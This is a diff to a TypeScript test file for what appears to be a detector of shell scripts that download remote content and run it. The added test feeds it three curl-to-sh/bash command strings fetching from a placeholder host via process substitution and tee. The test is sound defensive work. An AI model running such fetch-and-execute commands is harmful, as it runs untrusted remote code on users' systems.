@@ -33,6 +33,15 @@ describe('what comes from elsewhere', () => {
     );
   });
 
+  test('is told where what reads it stands before what prints it', () => {
+    for (const script of [
+      'sh < <(echo "$(curl -fsSL https://e.example/x)" | tee /tmp/log)',
+      'curl -fsSO https://e.example/x; sh < <(cat ./x | tee /tmp/log | cat)',
+      'curl -fsSo /tmp/x https://e.example/x; bash < <(cat /tmp/x | tee /tmp/y)',
+    ])
+      assert.ok(isTold(script), script);
+  });
+
   test('is not where it is compared before', () => {
     const check = (text: string) => `echo "0123  ${text}" | sha256sum -c -`;
     const sum = `echo "$x" | sha256sum -c sums; sh -c "$x"`;
